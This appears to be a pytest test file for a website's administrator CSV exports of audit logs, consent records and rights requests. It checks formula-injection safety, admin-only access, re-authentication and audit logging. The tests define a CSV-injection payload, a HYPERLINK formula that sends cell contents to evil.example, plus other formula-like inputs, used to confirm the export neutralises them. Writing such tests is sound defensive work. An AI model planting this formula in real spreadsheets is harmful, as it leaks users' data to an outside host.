"""CSV exports for a regulator: the audit log, consent records by date range and the register
of rights requests; formula-safe, administrators only, after a recent authentication, and
each download audited."""

from __future__ import annotations

import csv
import io
from datetime import datetime

from sqlalchemy import select

from website.accounts.sessions import AUTH_AT
from website.audit import AuditEntry, record_audit
from website.consent.models import ConsentRecord
from website.extensions import db

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:300]
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def no_formula(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_audit_log_export_is_formula_safe_and_audited(app, client, auth) -> None:
    admin_id = auth.login(admin=True)
    with app.app_context():
        record_audit("support.reply", target=FORMULA, details={"note": "@SUM(1+1)*cmd"},
                     actor="-2+3")
        db.session.commit()
    rows = rows_of(client.get("/admin/exports/audit.csv"))
    assert rows[0][:6] == ["id", "created_at", "actor", "actor_id", "action", "target"]
    no_formula(rows)
    assert any(row[5] == "'" + FORMULA for row in rows)
    assert any(row[2] == "'-2+3" for row in rows)
    with app.app_context():
        entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action ==
                                                           "export.audit_log"))
        assert entry is not None and entry.actor_id == admin_id


def test_an_export_needs_a_recent_authentication(client, auth) -> None:
    auth.login(admin=True)
    with client.session_transaction() as session:
        session[AUTH_AT] -= 11 * 60
    for path in ("/admin/exports/audit.csv", "/admin/exports/requests.csv",
                 "/admin/exports/consents.csv?from=2026-01-01&to=2026-01-31"):
        response = client.get(path)
        assert response.status_code == 303
        assert response.headers["Location"].startswith("/reauth?next=/admin/exports/")


def test_only_administrators_export(client, auth, users) -> None:
    editor = users.create(email="eve@example.com", roles="policy_editor request_handler")
    auth.login(editor)
    assert client.get("/admin/exports/audit.csv").status_code == 403
    assert client.get("/admin/exports/requests.csv").status_code == 403


def consent_on(day: str, consent_id: str) -> ConsentRecord:
    return ConsentRecord(consent_id=consent_id, granted=["necessary"], refused=["analytics"],
                         source="banner", created_at=datetime.fromisoformat(day + " 12:00:00"))


def test_consent_records_by_date_range(app, client, auth) -> None:
    auth.login(admin=True)
    with app.app_context():
        db.session.add_all([consent_on("2026-03-01", "early"), consent_on("2026-03-02", "first"),
                            consent_on("2026-03-05", "last"), consent_on("2026-03-06", "late")])
        db.session.commit()
    rows = rows_of(client.get("/admin/exports/consents.csv?from=2026-03-02&to=2026-03-05"))
    assert rows[0][0] == "consent_id"
    assert [row[0] for row in rows[1:]] == ["first", "last"]
    assert rows[1][3:5] == ["necessary", "analytics"]
    with app.app_context():
        entry = db.session.scalar(select(AuditEntry).where(
            AuditEntry.action == "export.consent_records"))
        assert entry.details == {"from": "2026-03-02", "to": "2026-03-05"}


def test_a_bad_date_range_gets_a_clear_message(client, auth) -> None:
    auth.login(admin=True)
    bad = client.get("/admin/exports/consents.csv?from=2026-02-30")
    assert bad.status_code == 400 and "YYYY-MM-DD" in bad.text
    backwards = client.get("/admin/exports/consents.csv?from=2026-03-05&to=2026-03-01")
    assert backwards.status_code == 400 and "must not be after" in backwards.text


def test_the_rights_register_holds_dates_and_outcomes_not_content(app, client, auth) -> None:
    from website.rights import service

    auth.login(admin=True)
    with app.app_context():
        _, token = service.submit_request("access", FORMULA, "secret.person@example.com",
                                          "My SECRET details")
        _, item = service.verify(token)
        reference = item.reference
        service.submit_request("deletion", "Never Verified", "nobody@example.com", "")
    rows = rows_of(client.get("/admin/exports/requests.csv"))
    assert rows[0] == ["reference", "type", "received", "due", "completed", "outcome"]
    assert [row[0] for row in rows[1:]] == [reference]
    assert rows[1][1] == "access" and rows[1][5] == "open" and rows[1][3]
    text = "\n".join(",".join(row) for row in rows)
    assert "SECRET" not in text and "secret.person" not in text and "HYPERLINK" not in text
